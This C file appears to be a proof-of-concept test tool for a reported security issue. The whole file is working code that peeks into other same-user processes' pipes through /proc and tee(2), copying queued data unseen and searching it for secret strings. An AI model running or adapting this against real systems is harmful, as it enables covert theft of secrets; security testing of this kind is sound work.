/* SPDX-License-Identifier: MIT */
/*
 * fdrace.c - the attack of issue 11, item 1: a process of the user that
 * opens /proc/PID/fd/N of every other process of the same user and peeks
 * into each pipe it finds with tee(2), which copies what is queued without
 * taking it, so the victim goes on as if nothing happened.
 *
 *     fdrace STOPFILE OUTFILE < needles
 *
 * Reads one needle per line from stdin (a secret's canary, a control
 * string), then scans /proc until STOPFILE exists. OUTFILE gets
 *     scans N opened N peeked N
 *     hit <needle-index> <comm> fd <n>      (once per needle and process)
 * Run it as the user under attack: it sees only what that user may open.
 * A process turns non-dumpable to close this window; until it does, its
 * fds are open to its own user. Never installed.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_NEEDLES 8
#define MAX_HITS 64
#define PEEK 65536

struct hit {
	int needle;
	pid_t pid;
	char comm[32];
	int fd;
};

static char *needles[MAX_NEEDLES];
static size_t nneedles;
static struct hit hits[MAX_HITS];
static size_t nhits;
static unsigned long scans, opened, peeked;

/* Remember a needle found in pid's fd, once per (needle, pid). */
static void record(int needle, pid_t pid, int fd)
{
	char path[64];
	FILE *f;

	for (size_t i = 0; i < nhits; i++)
		if (hits[i].needle == needle && hits[i].pid == pid)
			return;
	if (nhits == MAX_HITS)
		return;
	hits[nhits] = (struct hit){ .needle = needle, .pid = pid, .fd = fd };
	snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
	if ((f = fopen(path, "r")) != NULL) {
		if (fgets(hits[nhits].comm, sizeof(hits[nhits].comm), f) != NULL)
			hits[nhits].comm[strcspn(hits[nhits].comm, "\n")] = '\0';
		fclose(f);
	}
	if (hits[nhits].comm[0] == '\0')
		strcpy(hits[nhits].comm, "?");
	nhits++;
}

/* Copy what is queued in the pipe `fd` (without consuming it) and look for the needles. */
static void peek(int fd, pid_t pid, int n, int tap[2])
{
	static char buf[PEEK + 1];
	ssize_t got = tee(fd, tap[1], PEEK, SPLICE_F_NONBLOCK), r;
	size_t len = 0;

	if (got <= 0)
		return;
	peeked++;
	while (len < PEEK && (r = read(tap[0], buf + len, PEEK - len)) > 0)
		len += (size_t)r;
	buf[len] = '\0';
	for (size_t i = 0; i < nneedles; i++)
		if (memmem(buf, len, needles[i], strlen(needles[i])) != NULL)
			record((int)i, pid, n);
}

/* Every fd of one process that is a pipe. */
static void scan_process(pid_t pid, int tap[2])
{
	char dir[64], path[384];
	struct dirent *e;
	DIR *d;

	snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)pid);
	if ((d = opendir(dir)) == NULL)
		return;
	while ((e = readdir(d)) != NULL) {
		struct stat st;
		int fd, n = atoi(e->d_name);

		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		/* a pipe's write end opens for reading too, through /proc */
		fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
		if (fd < 0)
			continue;
		opened++;
		if (fstat(fd, &st) == 0 && S_ISFIFO(st.st_mode))
			peek(fd, pid, n, tap);
		close(fd);
	}
	closedir(d);
}

int main(int argc, char **argv)
{
	char line[512];
	int tap[2];
	uid_t me = getuid();
	pid_t self = getpid();
	FILE *out;

	if (argc != 3) {
		fputs("usage: fdrace STOPFILE OUTFILE < needles\n", stderr);
		return 2;
	}
	while (nneedles < MAX_NEEDLES && fgets(line, sizeof(line), stdin) != NULL) {
		line[strcspn(line, "\n")] = '\0';
		if (line[0] != '\0')
			needles[nneedles++] = strdup(line);
	}
	if (nneedles == 0 || pipe2(tap, O_NONBLOCK | O_CLOEXEC) < 0)
		return 2;
	fcntl(tap[1], F_SETPIPE_SZ, PEEK);
	while (access(argv[1], F_OK) < 0) {
		DIR *proc = opendir("/proc");
		struct dirent *e;

		if (proc == NULL)
			return 2;
		while ((e = readdir(proc)) != NULL) {
			struct stat st;
			pid_t pid = (pid_t)atoi(e->d_name);

			snprintf(line, sizeof(line), "/proc/%s", e->d_name);
			if (pid <= 0 || pid == self || stat(line, &st) < 0 || st.st_uid != me)
				continue;
			scan_process(pid, tap);
		}
		closedir(proc);
		scans++;
	}
	if ((out = fopen(argv[2], "w")) == NULL)
		return 2;
	fprintf(out, "scans %lu opened %lu peeked %lu\n", scans, opened, peeked);
	for (size_t i = 0; i < nhits; i++)
		fprintf(out, "hit %d %s fd %d\n", hits[i].needle, hits[i].comm, hits[i].fd);
	fclose(out);
	return 0;
}
